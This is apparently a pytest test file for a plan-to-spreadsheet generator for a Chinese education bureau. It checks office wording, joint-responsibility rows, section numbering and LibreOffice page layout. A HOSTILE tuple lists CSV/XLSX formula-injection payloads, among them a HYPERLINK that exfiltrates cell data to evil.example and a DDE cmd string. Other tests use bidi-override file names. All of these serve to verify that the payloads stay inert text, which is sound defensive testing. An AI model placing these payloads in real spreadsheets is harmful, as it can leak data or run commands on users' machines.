"""Sheets in a bureau's own words and numbers: office_word (科室), joint responsibility (责任),
per-section numbering (一、1 … 三、1), XLSX formula injection, invisible characters in file names,
and a one-row office sheet on one page after LibreOffice. Each reads the real outputs back."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
import unicodedata
from pathlib import Path

import docx
import openpyxl
import pdfplumber
import pytest

from plangen.errors import PlangenError
from plangen.fonts import load_profile
from plangen.outio import safe_filename
from plangen.sheets import list_sheets, render_sheets
from plangen.view import load_view

ROSTER = """bureau: 市教育局
office_word: 科室
leaders: [王明, 李华]
offices: [办公室, 基础教育科, 体卫艺科, 督导科]
"""

PLAN = """roster: city.roster.yaml
plan:
  title: 市教育局2025年工作计划
  year: 2025
  options: {{numbering: {numbering}}}
  sections:
    - title: 党建工作
      items:
        - {{title: 加强党建, text: 落实党建责任。, leaders: [王明], offices: [办公室, 基础教育科]}}
        - {{title: 共同推进, text: 各科共同负责。, leaders: [李华], offices: [体卫艺科, 督导科], joint: true}}
    - title: 教育教学
      items:
        - {{title: 提升质量, text: 深化课堂改革。, leaders: [李华], offices: [基础教育科, 督导科]}}
    - title: 体育卫生
      items:
        - {{title: 健康校园, text: 开展体育活动。, leaders: [王明], offices: [体卫艺科]}}
"""


def _plan(tmp: Path, numbering: str = "per-section", roster: str = ROSTER, plan: str = PLAN) -> Path:
    (tmp / "city.roster.yaml").write_text(roster, encoding="utf-8")
    p = tmp / "city-2025.yaml"
    p.write_text(plan.format(numbering=numbering) if "{numbering}" in plan else plan, encoding="utf-8")
    return p


def _xlsx(data: bytes, sheet: str | None = None):  # type: ignore[no-untyped-def]
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return wb[sheet] if sheet else wb.active


def _docx_text(data: bytes) -> str:
    d = docx.Document(io.BytesIO(data))
    return "\n".join([p.text for p in d.paragraphs] + [c.text for t in d.tables for r in t.rows for c in r.cells])


def _pdf_text(data: bytes) -> str:
    with pdfplumber.open(io.BytesIO(data)) as pdf:
        return "\n".join(p.extract_text() or "" for p in pdf.pages)


@pytest.fixture(scope="module")
def city(tmp_path_factory):  # type: ignore[no-untyped-def]
    tmp = tmp_path_factory.mktemp("city")
    view = load_view(_plan(tmp))
    return view, render_sheets(view, list_sheets(view), ("xlsx", "docx", "pdf"), load_profile())


def test_office_word_everywhere(city, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    view, files = city
    assert view.plan.office_word == "科室"
    stems = sorted({k.split("/")[1].rsplit(".", 1)[0] for k in files})
    assert stems == ["总表-任务分解表", "科室-体卫艺科", "科室-办公室", "科室-基础教育科", "科室-督导科",
                     "领导-李华", "领导-王明"]
    for k, data in files.items():
        text = _pdf_text(data) if k.endswith(".pdf") else _docx_text(data) if k.endswith(".docx") else \
            "\n".join(str(c.value) for ws in openpyxl.load_workbook(io.BytesIO(data)).worksheets
                      for r in ws.iter_rows() for c in r if c.value is not None)
        assert "股室" not in text, k
        if "办公室" in k or "总表" in k:
            assert "牵头科室" in text and "配合科室" in text, k
    assert _xlsx(files["sheets/总表-任务分解表.xlsx"], "工作量")["A1"].value == "科室"
    with pytest.raises(PlangenError, match="本计划中没有科室“教务科”"):
        list_sheets(view, offices=["教务科"])
    # the plan body's responsibility line, in the plan's own DOCX and PDF
    from plangen.render.docx import render_docx
    from plangen.render.pdf import render_pdf

    body = _docx_text(render_docx(view, profile=load_profile()))
    assert "责任科室：办公室、基础教育科" in body and "股室" not in body
    pdf = "".join(_pdf_text(render_pdf(view, profile=load_profile())).split())  # justified: spaces between CJK
    assert "责任科室：办公室、基础教育科" in pdf and "股室" not in pdf


def test_joint_items_print_responsible_on_each_units_sheet(city) -> None:  # type: ignore[no-untyped-def]
    _, files = city
    for office in ("体卫艺科", "督导科"):
        ws = _xlsx(files[f"sheets/科室-{office}.xlsx"])
        head = [c.value for c in ws[3]]
        rows = {r[head.index("工作任务")]: r[head.index("责任类型")] for r in ws.iter_rows(min_row=4, values_only=True)}
        assert rows["共同推进"] == "责任", office
        text = _pdf_text(files[f"sheets/科室-{office}.pdf"])
        assert "共同推进" in text and "责任" in text.split("共同推进", 1)[1][:80]
        d = docx.Document(io.BytesIO(files[f"sheets/科室-{office}.docx"]))
        row = next(r for r in d.tables[0].rows if r.cells[1].text == "共同推进")
        assert row.cells[head.index("责任类型")].text == "责任"
    ws = _xlsx(files["sheets/总表-任务分解表.xlsx"], "责任矩阵")
    offices = [c.value for c in ws[1]][2:]
    joint_row = next(r for r in ws.iter_rows(min_row=2, values_only=True) if r[1] == "共同推进")
    assert [joint_row[2 + offices.index(o)] for o in ("体卫艺科", "督导科")] == ["责任", "责任"]
    totals = {r[1]: r[2:] for r in ws.iter_rows(min_row=2, values_only=True) if r[1] and r[1].endswith("合计")}
    assert set(totals) == {"牵头合计", "责任合计", "配合合计"}
    assert totals["责任合计"][offices.index("督导科")] == 1 and totals["牵头合计"][offices.index("督导科")] == 0
    main = _xlsx(files["sheets/总表-任务分解表.xlsx"])
    head = [c.value for c in main[3]]
    joint_main = next(r for r in main.iter_rows(min_row=4, values_only=True) if r[1] == "共同推进")
    assert joint_main[head.index("牵头科室")] == "体卫艺科、督导科（共同负责）"
    assert not joint_main[head.index("配合科室")]


def test_all_joint_plan_has_one_responsibility_column(tmp_path: Path) -> None:
    plan = PLAN.replace("offices: [办公室, 基础教育科]}", "offices: [办公室, 基础教育科], joint: true}") \
        .replace("offices: [基础教育科, 督导科]}", "offices: [基础教育科, 督导科], joint: true}") \
        .replace("offices: [体卫艺科]}", "offices: [体卫艺科], joint: true}")
    view = load_view(_plan(tmp_path, plan=plan))
    files = render_sheets(view, list_sheets(view), ("xlsx",), load_profile())
    head = [c.value for c in _xlsx(files["sheets/总表-任务分解表.xlsx"])[3]]
    assert "责任科室" in head and "牵头科室" not in head and "配合科室" not in head
    office = _xlsx(files["sheets/科室-基础教育科.xlsx"])
    kinds = [r[[c.value for c in office[3]].index("责任类型")] for r in office.iter_rows(min_row=4, values_only=True)]
    assert kinds == ["责任", "责任"]


def test_per_section_numbers_as_printed(city) -> None:  # type: ignore[no-untyped-def]
    view, files = city
    assert [i.ref for i in view.plan.items] == ["一、1", "一、2", "二、1", "三、1"]
    blocks = [b.item for b in view.plan.blocks if b.item is not None and b.kind == "item"]
    assert blocks == [1, 2, 3, 4]  # unique, for the plan PDF's data-item
    main = _xlsx(files["sheets/总表-任务分解表.xlsx"])
    assert [r[0] for r in main.iter_rows(min_row=4, values_only=True) if r[0]] == ["一、1", "一、2", "二、1", "三、1"]
    d = docx.Document(io.BytesIO(files["sheets/总表-任务分解表.docx"]))
    assert [r.cells[0].text for r in d.tables[0].rows[1:]] == ["一、1", "一、2", "二、1", "三、1"]
    with pdfplumber.open(io.BytesIO(files["sheets/总表-任务分解表.pdf"])) as pdf:
        table = pdf.pages[0].extract_table()
    assert [r[0] for r in table[1:]] == ["一、1", "一、2", "二、1", "三、1"]
    ws = _xlsx(files["sheets/科室-基础教育科.xlsx"])
    kind = [c.value for c in ws[3]].index("责任类型")
    assert [(r[0], r[kind]) for r in ws.iter_rows(min_row=4, values_only=True)] == [("二、1", "牵头"), ("一、1", "配合")]


HOSTILE = ('=HYPERLINK("http://evil.example/?"&C4,"点此查看")', "=cmd|' /C calc'!A0", "+1+2", "-3", "@SUM(1,2)")


def test_xlsx_formula_injection_stays_text(tmp_path: Path) -> None:
    """Issue 19.2: text from the plan never becomes a formula, in openpyxl's reading and in
    LibreOffice's (which evaluates formulas on load: a live one would show its result)."""
    roster = ROSTER.replace("督导科]", "督导科, '=1+1']")
    plan = ("roster: city.roster.yaml\nplan:\n  title: '=2+3'\n  year: 2025\n  sections:\n    - title: 一\n"
            "      items:\n" + _yaml_items())
    view = load_view(_plan(tmp_path, roster=roster, plan=plan))
    files = render_sheets(view, list_sheets(view), ("xlsx",), load_profile())
    main = files["sheets/总表-任务分解表.xlsx"]
    wb = openpyxl.load_workbook(io.BytesIO(main))
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")):
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate, c.value)
                    seen.add(c.value)
    assert set(HOSTILE) <= seen and "=1+1" in seen and "=2+3任务分解表" in seen
    if not shutil.which("libreoffice"):
        pytest.skip("LibreOffice not installed")
    src = tmp_path / "m.xlsx"
    src.write_bytes(main)
    subprocess.run(["libreoffice", "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1",
                    "--outdir", str(tmp_path), str(src)], check=True, capture_output=True, timeout=120)
    cells = {v for r in csv.reader(io.StringIO((tmp_path / "m.csv").read_text(encoding="utf-8"))) for v in r}
    assert set(HOSTILE) <= cells, cells
    assert "=1+1" in cells and "=2+3任务分解表" in cells, cells


def _yaml_items() -> str:
    def q(s: str) -> str:
        return "'" + s.replace("'", "''") + "'"
    return "".join(f"        - {{title: {q(t)}, text: {q(t)}, leaders: [王明], offices: [{q('=1+1')}, 办公室], "
                   f"due: {q(t)}}}\n" for t in HOSTILE)


@pytest.mark.parametrize("name", ["\u202eexe.fdp", "教育\u200b股", "a\u2066b\u2069", "\ufeff办公室", "x\u2028y", "\u202e"])
def test_no_format_characters_in_file_names(name: str) -> None:
    """Issue 19.4: bidi controls and other format characters never reach a file name."""
    stem = safe_filename(f"股室-{name}", set())
    assert not any(unicodedata.category(c) in ("Cf", "Cc", "Zl", "Zp") for c in stem), repr(stem)
    assert stem.startswith("股室-") or stem == "股室"


def test_bidi_office_name_gives_a_plain_file_name(tmp_path: Path) -> None:
    roster = ROSTER.replace("督导科]", "督导科, \"\\u202Eexe.fdp\"]")
    plan = PLAN.replace("offices: [体卫艺科]}", "offices: [体卫艺科, \"\\u202Eexe.fdp\"]}")
    p = _plan(tmp_path, roster=roster, plan=plan)
    out = tmp_path / "out"
    r = subprocess.run([sys.executable, "-m", "plangen", "sheets", str(p), "--formats", "xlsx", "-o", str(out),
                        "--office", "\u202eexe.fdp"], capture_output=True, text=True, check=False)
    assert r.returncode == 0, r.stderr
    names = [f.name for f in (out / "city-2025" / "sheets").iterdir()]
    assert names == ["科室-exe.fdp.xlsx"], names


def test_one_row_office_sheet_is_one_page_in_libreoffice(tmp_path: Path) -> None:
    """Issue 13.5: with the grid equal to the cells, LibreOffice keeps 具体内容 wide and a one-row
    office sheet on one page (it spilled over three)."""
    if not shutil.which("libreoffice"):
        pytest.skip("LibreOffice not installed")
    long_text = "开展校园足球、篮球、排球联赛，组织中小学生运动会，落实每天校内外各一小时体育活动。" * 6
    plan = PLAN.replace("text: 开展体育活动。", f"text: {long_text}")
    view = load_view(_plan(tmp_path, plan=plan))
    assert [len(o.rows) for o in view.plan.offices if o.name == "办公室"] == [1]
    files = render_sheets(view, list_sheets(view, offices=["办公室", "体卫艺科"]), ("docx",), load_profile())
    for stem in ("科室-办公室", "科室-体卫艺科"):
        src = tmp_path / f"{stem}.docx"
        src.write_bytes(files[f"sheets/{stem}.docx"])
        subprocess.run(["libreoffice", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(src)],
                       check=True, capture_output=True, timeout=120)
        with pdfplumber.open(tmp_path / f"{stem}.pdf") as pdf:
            assert len(pdf.pages) == 1, stem
            words = pdf.pages[0].extract_words()
            x = {w["text"]: (w["x0"] + w["x1"]) / 2 for w in words if w["text"] in ("具体内容", "责任领导")}
            # 具体内容 keeps its share of the width (38 of 109 parts of 257 mm: its centre ≈ 154 pt
            # from 责任领导's), not an equal tenth (≈ 73 pt)
            assert x["责任领导"] - x["具体内容"] > 120, x


def test_responsibility_line_in_the_bureaus_words(tmp_path: Path) -> None:
    """责任科室：甲、乙 (first leads) for 科室; for 单位 a bare list would read as joint, so a lead
    and its assisting units print as 牵头单位/配合单位, and a joint item as 责任单位."""
    view = load_view(_plan(tmp_path))
    resp = [i.responsibility for i in view.plan.items]
    assert resp[0] == "（责任领导：王明，责任科室：办公室、基础教育科）"
    assert resp[1] == "（责任领导：李华，责任科室：体卫艺科、督导科）"
    view = load_view(_plan(tmp_path, roster=ROSTER.replace("office_word: 科室", "office_word: 单位")))
    resp = [i.responsibility for i in view.plan.items]
    assert resp[0] == "（责任领导：王明，牵头单位：办公室，配合单位：基础教育科）"
    assert resp[1] == "（责任领导：李华，责任单位：体卫艺科、督导科）"
    assert resp[3] == "（责任领导：王明，责任单位：体卫艺科）"
    files = render_sheets(view, list_sheets(view, offices=["督导科"]), ("xlsx",), load_profile())
    assert list(files) == ["sheets/单位-督导科.xlsx"]
    assert [c.value for c in _xlsx(files["sheets/单位-督导科.xlsx"])[3]][4:6] == ["牵头单位", "配合单位"]
